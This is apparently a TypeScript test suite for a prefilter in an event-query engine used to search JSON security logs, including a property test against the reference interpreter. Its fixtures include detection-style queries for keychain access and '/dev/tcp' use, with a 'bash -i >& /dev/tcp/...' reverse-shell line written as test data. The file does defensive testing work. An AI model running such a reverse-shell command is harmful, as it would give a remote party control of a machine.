import fc from 'fast-check';
import { describe, expect, it } from 'vitest';

import type { EventQuery, Expr, Literal, Span } from '../../src/query/ast.js';
import { parseQuery } from '../../src/query/index.js';
import { matchesEventQuery } from '../../src/interpret/index.js';
import {
  compilePrefilter,
  extractLiterals,
  type LiteralSet,
  type Prefilter,
} from '../../src/compile/prefilter.js';

const prefilterOf = (query: string): Prefilter =>
  compilePrefilter(extractLiterals(parseQuery(query)));

const line = (pf: Prefilter, text: string): boolean => {
  const buf = Buffer.from(text, 'utf8');
  return pf.testLine(buf, 0, buf.length);
};

const ci = (text: string): LiteralSet => ({
  literals: [{ text, caseInsensitive: true, atStart: false, atEnd: false }],
});

describe('compilePrefilter', () => {
  it('should find a literal in any letter case, as JSON spells it', () => {
    const pf = prefilterOf('process where process.args : "*/Library/Keychains/*"');
    expect(line(pf, '{"process":{"args":["/USERS/x/library/KEYCHAINS/a"]}}')).toBe(true);
    expect(line(pf, '{"process":{"args":["/Users/x/Library/Keys/a"]}}')).toBe(false);
  });

  it('should spell quotes, backslashes and control characters escaped', () => {
    const pf = prefilterOf('any where a == "C:\\\\Temp\\\\\\"x\\"\\n"');
    expect(line(pf, JSON.stringify({ a: 'C:\\Temp\\"x"\n' }))).toBe(true);
    expect(line(pf, JSON.stringify({ a: 'C:\\Temp\\x' }))).toBe(false);
  });

  it('should pass a line whose \\u escape may hide a literal character', () => {
    const pf = compilePrefilter(ci('keychain'));
    expect(line(pf, '{"a":"\\u006beychain"}')).toBe(true);
    expect(line(pf, '{"a":"\\u004Beychain"}')).toBe(true);
    // An escape of a character no literal holds, or an escaped backslash before `u`, cannot.
    expect(line(pf, '{"a":"\\u00e9 nothing"}')).toBe(false);
    expect(line(pf, '{"a":"C:\\\\users\\\\kei"}')).toBe(false);
    expect(line(pf, '{"a":"C:\\\\\\u0065"}')).toBe(true);
  });

  it('should pass slashes escaped as \\/', () => {
    const pf = prefilterOf('any where a : "*/dev/tcp/*"');
    expect(line(pf, '{"a":"bash -i >& \\/dev\\/tcp/1.2.3.4"}')).toBe(true);
    expect(line(pf, '{"a":"bash -i >& \\/dev\\/udp/1.2.3.4"}')).toBe(false);
  });

  it('should pass a Kelvin sign for k, and a final İ for i, under case folding', () => {
    const pf = compilePrefilter(ci('keychai'));
    expect(line(pf, JSON.stringify({ a: '\u212aeychai' }))).toBe(true);
    expect(line(pf, JSON.stringify({ a: 'keycha\u0130' }))).toBe(true);
    expect(line(pf, JSON.stringify({ a: 'keych\u0130i' }))).toBe(false);
    // The Kelvin sign folds to k: the reference agrees that it matches.
    const q = parseQuery('any where a : "*keychain*"').body as EventQuery;
    expect(matchesEventQuery(q, { a: 'x\u212aEYCHAIN' }, { categoryField: 'event.category' }))
      .toBe(true);
  });

  it('should report line ranges of a batch, in order, the last line unterminated', () => {
    const pf = prefilterOf('any where a == "hit"');
    const text = ['{"a":"hit"}', '{"a":"miss"}', '{"a":"hit","b":"hit"}', '', '{"a":"hit"}'];
    const buf = Buffer.from('xx\n' + text.join('\n'), 'utf8');
    const out: number[] = [];
    expect(pf.candidates(buf, 3, buf.length, out)).toBe(3);
    const lines = [];
    for (let i = 0; i < out.length; i += 2) lines.push(buf.toString('utf8', out[i], out[i + 1]));
    expect(lines).toEqual(['{"a":"hit"}', '{"a":"hit","b":"hit"}', '{"a":"hit"}']);
  });

  it('should pass every non-empty line without a literal set', () => {
    const pf = compilePrefilter(null);
    const buf = Buffer.from('a\n\nb\nc', 'utf8');
    const out: number[] = [];
    expect(pf.all).toBe(true);
    expect(pf.candidates(buf, 0, buf.length, out)).toBe(3);
    expect(out).toEqual([0, 1, 3, 4, 5, 6]);
  });

  it('should search many literals in one pass and still find each', () => {
    const words = Array.from({ length: 40 }, (_, i) => `needle${i}x${'q'.repeat(i % 7)}`);
    const set: LiteralSet = {
      literals: words.map((text, i) => ({
        text,
        caseInsensitive: i % 2 === 0,
        atStart: false,
        atEnd: false,
      })),
    };
    const pf = compilePrefilter(set);
    for (const [i, word] of words.entries()) {
      const spelled = i % 2 === 0 ? word.toUpperCase() : word;
      expect(line(pf, JSON.stringify({ pad: 'z'.repeat(i), v: spelled }))).toBe(true);
      if (i % 2 === 1) expect(line(pf, JSON.stringify({ v: word.toUpperCase() }))).toBe(false);
    }
    expect(line(pf, JSON.stringify({ v: 'needle' }))).toBe(false);
  });
});

// Property: for every event the reference interpreter matches, every JSON spelling of it
// is a candidate.

const SPAN: Span = { start: 0, end: 0, line: 1, column: 1 };
const FRAGMENTS = [
  'keychain', 'Library', '/', '\\', '"', 'cmd.exe', 'é', '\u212a', '\u0130', 'ß', '5', '1.5',
  'true', 'abc', 'x', ' ', '\n', 'ǅ', '😀', 'KI', 'ki', '*', '?', 'Σ',
];
const FIELDS = [['a'], ['b'], ['p', 'q']];

const lit = (value: string | number | null): Literal => ({ kind: 'literal', value, span: SPAN });
const fieldArb = fc.constantFrom(...FIELDS).map(
  (path): Expr => ({ kind: 'field', path, optional: false, span: SPAN }),
);
const textArb = fc.array(fc.constantFrom(...FRAGMENTS), { minLength: 1, maxLength: 3 })
  .map((parts) => parts.join(''));
const caseArb = fc.array(fc.boolean(), { minLength: 12, maxLength: 12 });
const mixCase = (text: string, flips: boolean[]): string =>
  Array.from(text).map((ch, i) => (flips[i % flips.length] ? ch.toUpperCase() : ch)).join('');
const wildArb = fc.constantFrom('', '*', '?');
const patternArb = fc
  .tuple(wildArb, textArb, wildArb, textArb, fc.boolean())
  .map(([a, t, b, u, more]) => `${a}${t}${b}${more ? u : ''}`);
const luceneEscape = (text: string): string => text.replace(/[.?+*|{}[\]()"\\#@&<>~]/g, '\\$&');
const regexArb = fc
  .tuple(fc.constantFrom('', '.*', '.'), textArb, fc.constantFrom('', '.*', '+', '?', '[a-z]*'))
  .map(([a, t, b]) => `${a}${luceneEscape(t)}${b}`);

const leafArb: fc.Arbitrary<Expr> = fc.oneof(
  fc.tuple(fieldArb, textArb).map(([left, s]): Expr =>
    ({ kind: 'compare', op: '==', left, right: lit(s), span: SPAN })),
  fc.tuple(fieldArb, textArb).map(([left, s]): Expr =>
    ({ kind: 'compare', op: '!=', left, right: lit(s), span: SPAN })),
  fc.tuple(fieldArb, fc.array(textArb, { minLength: 1, maxLength: 3 }), fc.boolean(), fc.boolean())
    .map(([left, values, caseInsensitive, negated]): Expr =>
      ({ kind: 'in', negated, caseInsensitive, left, values: values.map(lit), span: SPAN })),
  fc.tuple(
    fieldArb,
    fc.array(patternArb, { minLength: 1, maxLength: 2 }),
    fc.constantFrom(':', 'like', 'like~'),
  )
    .map(([left, patterns, op]): Expr => ({
      kind: 'match', op: op === 'like~' ? 'like' : (op as ':' | 'like'),
      caseInsensitive: op !== 'like', left, patterns: patterns.map(lit), span: SPAN,
    })),
  fc.tuple(fieldArb, regexArb, fc.boolean()).map(([left, pattern, caseInsensitive]): Expr =>
    ({ kind: 'match', op: 'regex', caseInsensitive, left, patterns: [lit(pattern)], span: SPAN })),
  fc.tuple(
    fieldArb,
    textArb,
    fc.constantFrom('stringContains', 'startsWith', 'endsWith'),
    fc.boolean(),
  )
    .map(([source, s, name, caseInsensitive]): Expr => ({
      kind: 'call', name: name as 'startsWith', caseInsensitive, args: [source, lit(s)], span: SPAN,
    })),
);
const exprArb: fc.Arbitrary<Expr> = fc.letrec<{ e: Expr }>((tie) => ({
  e: fc.oneof(
    { depthSize: 'small', withCrossShrink: true },
    leafArb,
    fc.tuple(fc.constantFrom('and', 'or'), fc.array(tie('e'), { minLength: 2, maxLength: 3 }))
      .map(([kind, operands]): Expr => ({ kind: kind as 'and', operands, span: SPAN })),
    tie('e').map((operand): Expr => ({ kind: 'not', operand, span: SPAN })),
  ),
})).e;

/** Text that may match the query's constants: patterns instantiated, regexes unescaped. */
function constantsOf(expr: Expr): string[] {
  switch (expr.kind) {
    case 'literal':
      return typeof expr.value === 'string' ? [expr.value] : [];
    case 'not':
      return constantsOf(expr.operand);
    case 'and':
    case 'or':
      return expr.operands.flatMap(constantsOf);
    case 'compare':
      return [...constantsOf(expr.left), ...constantsOf(expr.right)];
    case 'in':
      return expr.values.flatMap(constantsOf);
    case 'call':
      return expr.args.flatMap(constantsOf);
    case 'match':
      return expr.patterns.flatMap((p) => {
        const text = String(p.value);
        if (expr.op !== 'regex') return [text.replace(/\*/g, '').replace(/\?/g, 'K'), text];
        return [text.replace(/^\.\*|^\.|\.\*$|\+$|\?$|\[a-z\]\*$/g, '').replace(/\\(.)/gu, '$1')];
      });
    default:
      return [];
  }
}

/** Variants of a constant as a value could hold it: recased, embedded, k and i swapped. */
const spinArb = (constants: string[]): fc.Arbitrary<string> =>
  fc
    .tuple(
      fc.constantFrom(...constants),
      caseArb,
      fc.constantFrom('', 'x', '/'),
      fc.constantFrom('', 'y', '\\'),
      fc.constantFrom('none', 'kelvin', 'dotted'),
    )
    .map(([c, flips, pre, post, swap]) => {
      let text = mixCase(c, flips);
      if (swap === 'kelvin') text = text.replace(/k/i, '\u212a');
      if (swap === 'dotted') text = text.replace(/i$/i, '\u0130');
      return pre + text + post;
    });

const scalarArb = (constants: string[]): fc.Arbitrary<string | number | boolean | null> =>
  fc.oneof(
    { weight: 6, arbitrary: constants.length > 0 ? spinArb(constants) : textArb },
    { weight: 2, arbitrary: fc.tuple(textArb, caseArb).map(([t, flips]) => mixCase(t, flips)) },
    { weight: 1, arbitrary: fc.constantFrom(5, 1.5, 1e21, true, false, null) },
  );
const valueArb = (constants: string[]): fc.Arbitrary<unknown> =>
  fc.oneof(
    { weight: 3, arbitrary: scalarArb(constants) },
    { weight: 1, arbitrary: fc.array(scalarArb(constants), { minLength: 0, maxLength: 3 }) },
  );
const eventArb = (constants: string[]): fc.Arbitrary<object> =>
  fc.record({
    a: valueArb(constants),
    b: valueArb(constants),
    p: fc.record({ q: valueArb(constants) }),
  });
const caseArbAndEvents = exprArb.chain((condition) =>
  fc.tuple(
    fc.constant(condition),
    fc.array(eventArb(constantsOf(condition)), { minLength: 1, maxLength: 8 }),
  ),
);

/** Respells JSON text: string characters as `\uXXXX` and `/` as `\/`, by the given coins. */
function respell(json: string, coins: boolean[]): string {
  let out = '';
  let inString = false;
  let k = 0;
  const coin = (): boolean => coins[k++ % coins.length] === true;
  for (let i = 0; i < json.length; i++) {
    const ch = json[i]!;
    if (!inString) {
      out += ch;
      if (ch === '"') inString = true;
    } else if (ch === '"') {
      out += ch;
      inString = false;
    } else if (ch === '\\') {
      const escape = json[i + 1] === 'u' ? json.slice(i, i + 6) : json.slice(i, i + 2);
      out += escape;
      i += escape.length - 1;
    } else if (ch === '/' && coin()) {
      out += '\\/';
    } else if (coin() && coin()) {
      out += '\\u' + ch.charCodeAt(0).toString(16).padStart(4, '0');
    } else {
      out += ch;
    }
  }
  return out;
}

describe('compilePrefilter never drops a matching line', () => {
  it('should pass every spelling of every event the reference interpreter matches', () => {
    let matched = 0;
    let filtered = 0;
    fc.assert(
      fc.property(
        caseArbAndEvents,
        fc.array(fc.boolean(), { minLength: 1, maxLength: 9 }),
        ([condition, events], coins) => {
          const query: EventQuery = { kind: 'event', category: null, condition, span: SPAN };
          const pf = compilePrefilter(extractLiterals(query));
          const lines = events.flatMap((e) => {
            const json = JSON.stringify(e);
            return [json, respell(json, coins)];
          });
          const buf = Buffer.from(lines.join('\n'), 'utf8');
          const out: number[] = [];
          pf.candidates(buf, 0, buf.length, out);
          const starts = new Set(out.filter((_, i) => i % 2 === 0));
          let offset = 0;
          for (const text of lines) {
            const event = JSON.parse(text) as object;
            if (matchesEventQuery(query, event, { categoryField: 'event.category' })) {
              matched++;
              if (!pf.all) filtered++;
              expect(starts.has(offset), `${text}\n${pf.describe()}`).toBe(true);
              expect(pf.testLine(buf, offset, offset + Buffer.byteLength(text))).toBe(true);
            }
            offset += Buffer.byteLength(text) + 1;
          }
        },
      ),
      { numRuns: 1500 },
    );
    // The generators are tuned so that matches are common; a property over none proves nothing.
    expect(matched).toBeGreaterThan(300);
    expect(filtered).toBeGreaterThan(250);
    console.info(`never-drop property: ${matched} matching lines, ${filtered} behind literals`);
  });
});
